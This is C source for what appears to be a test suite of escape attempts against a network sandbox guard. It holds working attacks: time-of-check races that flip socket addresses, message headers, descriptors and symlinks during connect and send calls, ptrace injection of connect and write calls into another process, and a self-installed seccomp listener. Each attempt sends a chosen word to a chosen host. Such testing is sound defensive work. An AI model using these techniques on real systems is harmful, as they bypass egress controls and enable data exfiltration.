/* Ways out that need C: threads that race, another process's registers, filters of system calls.
   usage: attacks NAME WORDS…   Ends with status 77 where this machine lacks what it is about. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ROUNDS 60
#define CALLS 3
#define MOST_CALLS 40
#define MOST_SWAPS 600 /* few of them meet the right moment */
#define LEAST_MICROSECONDS 2000
#define LACKING 77
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static const char *word = "?";
static volatile int going, flips;

static struct sockaddr_in place(const char *host, int port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, host, &to.sin_addr);
    return to;
}

static int lacks(const char *what)
{
    puts(what);
    return LACKING;
}

/* Another thread for one round, from its first change on. */
static pthread_t changing(void *(*change)(void *))
{
    pthread_t thread;
    going = 1;
    flips = 0;
    pthread_create(&thread, 0, change, 0);
    while (!flips)
        sched_yield();
    return thread;
}

/* Whether a round goes on: some calls, and as many as find room in some time. */
static int goes_on(int number, int most, const struct timespec *began)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    long passed = (now.tv_sec - began->tv_sec) * 1000000 + (now.tv_nsec - began->tv_nsec) / 1000;
    return number < CALLS || (number < most && passed < LEAST_MICROSECONDS);
}

static struct timespec now(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return at;
}

/* After each change: now and then the processor is for others, of whom the guard is one. */
static void changed(void)
{
    if (++flips % 1024 == 0)
        sched_yield();
}

static void patience(int fd)
{
    struct timeval limit = {.tv_usec = 300000};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
}

/* A plain connection. */
static int speak(struct sockaddr_in to, int kind)
{
    int fd = socket(AF_INET, kind, 0);
    if (connect(fd, (void *)&to, sizeof to) == 0)
        send(fd, word, strlen(word), MSG_NOSIGNAL);
    close(fd);
    return 0;
}

/* A server of this program's own, which may be reached. */
static int own_server(int kind, struct sockaddr_in *at)
{
    int fd = socket(AF_INET, kind, 0);
    socklen_t size = sizeof *at;
    *at = place("127.0.0.1", 0);
    bind(fd, (void *)at, sizeof *at);
    if (kind == SOCK_STREAM)
        listen(fd, 4096);
    getsockname(fd, (void *)at, &size);
    return fd;
}

/* The memory that one thread changes while another one's call is judged. */
static union {
    struct sockaddr_in internet;
    struct sockaddr_un path;
    char bytes[sizeof(struct sockaddr_un)];
} shared, first, second;
static size_t shared_size;

static void *flip_memory(void *unused)
{
    for (unsigned n = 0; going; n++, changed())
        memcpy((void *)&shared, n & 1 ? (void *)&second : (void *)&first, shared_size);
    return unused;
}

static char *flipped_link, *own_path, *other_path;

static void *flip_link(void *unused)
{
    char spare[200];
    snprintf(spare, sizeof spare, "%s.new", flipped_link);
    for (unsigned n = 0; going; n++, changed()) {
        unlink(spare);
        if (symlink(n & 1 ? other_path : own_path, spare) == 0)
            rename(spare, flipped_link);
    }
    return unused;
}

/* A number that one thread turns into another socket and back. */
static int swapped, harmless, harmful;

static void *flip_descriptor(void *unused)
{
    for (; going; changed()) {
        dup2(harmful, swapped);
        dup2(harmless, swapped);
    }
    return unused;
}

/* flip HOW HOST PORT: the address in memory; flip-many is sendmmsg, flip-length the length of the address. */
static int race_address(const char *how, const char *host, int port)
{
    int kind = strcmp(how, "connect") ? SOCK_DGRAM : SOCK_STREAM;
    struct sockaddr_in own;
    own_server(kind, &own);
    first.internet = own;
    second.internet = place(host, port);
    shared = first;
    shared_size = sizeof own;
    pthread_t thread;
    for (int round = 0; round < ROUNDS; round++) {
        struct timespec began = now();
        thread = changing(flip_memory);
        for (int n = 0; goes_on(n, MOST_CALLS, &began); n++) {
            int fd = socket(AF_INET, kind, 0);
            struct iovec part = {(void *)word, strlen(word)};
            struct mmsghdr many[1] = {{.msg_hdr = {&shared, sizeof own, &part, 1, 0, 0, 0}}};
            patience(fd);
            if (!strcmp(how, "connect")) {
                if (connect(fd, (void *)&shared, sizeof own) == 0)
                    send(fd, word, strlen(word), MSG_NOSIGNAL);
            } else if (!strcmp(how, "udp-connect")) {
                if (connect(fd, (void *)&shared, sizeof own) == 0)
                    send(fd, word, strlen(word), 0);
            } else if (!strcmp(how, "sendto"))
                sendto(fd, word, strlen(word), 0, (void *)&shared, sizeof own);
            else if (!strcmp(how, "sendmsg"))
                sendmsg(fd, &many[0].msg_hdr, 0);
            else
                sendmmsg(fd, many, 1, 0);
            close(fd);
        }
        going = 0;
        pthread_join(thread, 0);
    }
    return 0;
}

/* The struct msghdr itself changes: its name, or its parts. */
static struct msghdr header;
static struct iovec own_part, long_part;

static void *flip_header(void *unused)
{
    for (unsigned n = 0; going; n++, changed()) {
        *(void *volatile *)&header.msg_name = n & 1 ? (void *)&second : (void *)&first;
        *(struct iovec *volatile *)&header.msg_iov = n & 1 ? &long_part : &own_part;
    }
    return unused;
}

static int race_header(const char *host, int port)
{
    struct sockaddr_in own;
    own_server(SOCK_DGRAM, &own);
    first.internet = own;
    second.internet = place(host, port);
    own_part = (struct iovec){"x", 1};
    long_part = (struct iovec){(void *)word, strlen(word)};
    pthread_t thread;
    for (int round = 0; round < ROUNDS; round++) {
        header = (struct msghdr){&first, sizeof own, &own_part, 1, 0, 0, 0};
        struct timespec began = now();
        thread = changing(flip_header);
        for (int n = 0; goes_on(n, MOST_CALLS, &began); n++) {
            int fd = socket(AF_INET, SOCK_DGRAM, 0);
            sendmsg(fd, &header, 0);
            close(fd);
        }
        going = 0;
        pthread_join(thread, 0);
    }
    return 0;
}

/* swap HOW HOST PORT: a Unix socket becomes an internet socket under the same number. */
static int race_descriptor(const char *how, const char *host, int port)
{
    int is_udp = !strncmp(how, "udp", 3);
    struct sockaddr_in to = place(host, port);
    pthread_t thread;
    for (int round = 0; round < ROUNDS; round++) {
        int pair[2];
        socketpair(AF_UNIX, is_udp ? SOCK_DGRAM : SOCK_STREAM, 0, pair);
        harmless = pair[0];
        harmful = socket(AF_INET, is_udp ? SOCK_DGRAM : SOCK_STREAM, 0);
        patience(harmful);
        fcntl(pair[0], F_SETFL, O_NONBLOCK);
        fcntl(pair[1], F_SETFL, O_NONBLOCK);
        swapped = dup(harmless);
        struct timespec began = now();
        thread = changing(flip_descriptor);
        for (int n = 0; goes_on(n, MOST_SWAPS, &began); n++) {
            struct iovec part = {(void *)word, strlen(word)};
            union { struct cmsghdr head; char room[CMSG_SPACE(sizeof(int))]; } control = {
                .head = {.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
            struct msghdr message = {&to, sizeof to, &part, 1, 0, 0, 0};
            struct mmsghdr many = {.msg_hdr = message};
            if (!strcmp(how, "fast-open"))
                sendto(swapped, word, strlen(word), MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&to, sizeof to);
            else if (!strcmp(how, "fast-open-message"))
                sendmsg(swapped, &message, MSG_FASTOPEN | MSG_NOSIGNAL);
            else if (!strcmp(how, "fast-open-messages"))
                sendmmsg(swapped, &many, 1, MSG_FASTOPEN | MSG_NOSIGNAL);
            else if (!strcmp(how, "connect"))
                connect(swapped, (void *)&to, sizeof to);
            else if (!strcmp(how, "udp-to"))
                sendto(swapped, word, strlen(word), MSG_DONTWAIT, (void *)&to, sizeof to);
            else {
                if (!strcmp(how, "udp-rights")) {
                    message.msg_control = control.room;
                    message.msg_controllen = sizeof control.room;
                    *(int *)CMSG_DATA(&control.head) = 1;
                }
                sendmsg(swapped, &message, MSG_DONTWAIT);
                message.msg_control = 0;
                message.msg_controllen = 0;
            }
            char rest[4096];
            while (recv(pair[1], rest, sizeof rest, MSG_DONTWAIT) > 0)
                ;
        }
        going = 0;
        pthread_join(thread, 0);
        close(pair[0]), close(pair[1]), close(harmful), close(swapped);
    }
    return 0;
}

/* path HOW OWN OTHER: the path of a Unix socket, in memory or as a link. */
static int race_path(const char *how, char *own, char *other, int kind)
{
    own_path = own;
    other_path = other;
    unlink(own);
    int server = socket(AF_UNIX, kind, 0);
    first.path.sun_family = second.path.sun_family = AF_UNIX;
    strncpy(first.path.sun_path, own, sizeof first.path.sun_path - 1);
    strncpy(second.path.sun_path, other, sizeof second.path.sun_path - 1);
    bind(server, (void *)&first.path, sizeof first.path);
    if (kind == SOCK_STREAM)
        listen(server, 4096);
    shared = first;
    shared_size = sizeof shared;
    if (!strcmp(how, "link")) {
        static char name[200];
        snprintf(name, sizeof name, "%s.link", own);
        flipped_link = name;
        unlink(name);
        if (symlink(own, name))
            return 1;
        strncpy(shared.path.sun_path, name, sizeof shared.path.sun_path - 1);
    }
    pthread_t thread;
    for (int round = 0; round < ROUNDS; round++) {
        struct timespec began = now();
        thread = changing(!strcmp(how, "link") ? flip_link : flip_memory);
        for (int n = 0; goes_on(n, MOST_CALLS, &began); n++) {
            int fd = socket(AF_UNIX, kind, 0), taken;
            char rest[4096];
            fcntl(fd, F_SETFL, O_NONBLOCK);
            if (connect(fd, (void *)&shared, sizeof shared.path) == 0)
                send(fd, word, strlen(word), MSG_NOSIGNAL);
            close(fd);
            if (kind == SOCK_STREAM) {
                fcntl(server, F_SETFL, O_NONBLOCK);
                while ((taken = accept(server, 0, 0)) >= 0)
                    close(taken);
            } else
                while (recv(server, rest, sizeof rest, MSG_DONTWAIT) > 0)
                    ;
        }
        going = 0;
        pthread_join(thread, 0);
    }
    return 0;
}

/* user HOST PORT HOW OWN OTHER: a process of root's becomes another user's, whose files the guard must not open as
   itself. Then its Unix socket's path becomes another one, or the socket and its address those of the internet. */
static void *flip_both(void *unused)
{
    for (unsigned n = 0; going; n++, changed()) {
        dup2(n & 1 ? harmful : harmless, swapped);
        memcpy((void *)&shared, n & 1 ? (void *)&second : (void *)&first, shared_size);
    }
    return unused;
}

static int race_user(const char *how, char *own, char *other, const char *host, int port)
{
    if (getuid())
        return lacks("only root changes its user");
    int server = socket(AF_UNIX, SOCK_STREAM, 0), taken, is_path = !strcmp(how, "path");
    unlink(own);
    first.path.sun_family = second.path.sun_family = AF_UNIX;
    strncpy(first.path.sun_path, own, sizeof first.path.sun_path - 1);
    strncpy(second.path.sun_path, other, sizeof second.path.sun_path - 1);
    bind(server, (void *)&first.path, sizeof first.path);
    listen(server, 4096);
    fcntl(server, F_SETFL, O_NONBLOCK);
    chmod(own, 0777);
    if (!is_path)
        second.internet = place(host, port);
    shared = first;
    shared_size = sizeof shared;
    if (setresuid(1234, 1234, 1234))
        return lacks("no other user is mapped here");
    pthread_t thread;
    for (int round = 0; round < ROUNDS; round++) {
        harmless = socket(AF_UNIX, SOCK_STREAM, 0);
        harmful = is_path ? socket(AF_UNIX, SOCK_STREAM, 0) : socket(AF_INET, SOCK_STREAM, 0);
        fcntl(harmless, F_SETFL, O_NONBLOCK);
        patience(harmful);
        swapped = dup(harmless);
        struct timespec began = now();
        thread = changing(is_path ? flip_memory : flip_both);
        for (int n = 0; goes_on(n, is_path ? MOST_CALLS : MOST_SWAPS, &began); n++) {
            int fd = is_path ? socket(AF_UNIX, SOCK_STREAM, 0) : swapped;
            if (is_path)
                fcntl(fd, F_SETFL, O_NONBLOCK);
            if (connect(fd, (void *)&shared, sizeof shared.path) == 0 && is_path)
                send(fd, word, strlen(word), MSG_NOSIGNAL);
            if (is_path)
                close(fd);
            while ((taken = accept(server, 0, 0)) >= 0)
                close(taken);
        }
        going = 0;
        pthread_join(thread, 0);
        close(harmless), close(harmful), close(swapped);
    }
    return 0;
}

/* Have another process make a connection: by its registers. */
#ifdef __x86_64__
static long inject(pid_t pid, struct user_regs_struct *at, long number, long a, long b, long c)
{
    struct user_regs_struct now = *at;
    int status;
    now.rax = number;
    now.orig_rax = -1;
    now.rdi = a;
    now.rsi = b;
    now.rdx = c;
    if (ptrace(PTRACE_SETREGS, pid, 0, &now) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0))
        return -1;
    waitpid(pid, &status, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &now);
    return now.rax;
}

static int by_registers(pid_t pid, struct sockaddr_in to)
{
    struct user_regs_struct before, at;
    int status;
    long spoken;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) {
        puts("refused");
        return 0;
    }
    waitpid(pid, &status, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &before);
    at = before;
    /* It waits in a system call: the instruction before its counter is one. */
    at.rip = before.rip - 2;
    unsigned short code = ptrace(PTRACE_PEEKTEXT, pid, (void *)at.rip, 0);
    if (code != 0x050f) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return lacks("the other process was not in a system call");
    }
    unsigned long room = (before.rsp - 1024) & ~15ul, text = room - 64;
    for (size_t n = 0; n < sizeof to; n += 8)
        ptrace(PTRACE_POKEDATA, pid, (void *)(room + n), *(long *)((char *)&to + n));
    char said[64] = {0};
    strncpy(said, word, sizeof said - 1);
    for (size_t n = 0; n < sizeof said; n += 8)
        ptrace(PTRACE_POKEDATA, pid, (void *)(text + n), *(long *)(said + n));
    long fd = inject(pid, &at, SYS_socket, AF_INET, SOCK_STREAM, 0);
    spoken = inject(pid, &at, SYS_connect, fd, room, sizeof to);
    inject(pid, &at, SYS_write, fd, text, strlen(said));
    inject(pid, &at, SYS_close, fd, 0, 0);
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    puts(spoken ? "not connected" : "connected");
    return 0;
}
#else
static int by_registers(pid_t pid, struct sockaddr_in to)
{
    return lacks("registers are known for x86-64 only");
}
#endif

/* A filter of this program's own whose listener lets every call go on. */
static int listening = -1;

static void *let_all_go_on(void *unused)
{
    for (;;) {
        struct seccomp_notif call = {0};
        struct seccomp_notif_resp answer = {0};
        if (ioctl(listening, SECCOMP_IOCTL_NOTIF_RECV, &call)) {
            if (errno == ENOENT || errno == EINTR)
                continue;
            return unused;
        }
        answer.id = call.id;
        answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listening, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
}

static int own_listener(struct sockaddr_in to, int with_flags)
{
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof rules / sizeof *rules, rules};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    /* Before the filter: this thread's own calls must not wait for itself. */
    int flags = SECCOMP_FILTER_FLAG_NEW_LISTENER | with_flags;
    listening = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
    if (listening < 0)
        puts("no listener of its own");
    else {
        pthread_t thread;
        pthread_create(&thread, 0, let_all_go_on, 0);
    }
    return speak(to, SOCK_STREAM);
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    const char *name = argv[1];
    word = argv[2];
    if (!strcmp(name, "connect"))
        return speak(place(argv[3], atoi(argv[4])), SOCK_STREAM);
    if (!strcmp(name, "header"))
        return race_header(argv[3], atoi(argv[4]));
    if (!strcmp(name, "listener"))
        return own_listener(place(argv[3], atoi(argv[4])), 0);
    if (argc < 6)
        return 2;
    if (!strcmp(name, "address"))
        return race_address(argv[5], argv[3], atoi(argv[4]));
    if (!strcmp(name, "descriptor"))
        return race_descriptor(argv[5], argv[3], atoi(argv[4]));
    if (!strcmp(name, "registers"))
        return by_registers(atoi(argv[5]), place(argv[3], atoi(argv[4])));
    if (!strcmp(name, "path"))
        return race_path(argv[5], argv[3], argv[4], SOCK_STREAM);
    if (!strcmp(name, "user") && argc == 8)
        return race_user(argv[5], argv[6], argv[7], argv[3], atoi(argv[4]));
    if (!strcmp(name, "path-datagrams"))
        return race_path(argv[5], argv[3], argv[4], SOCK_DGRAM);
    return 2;
}
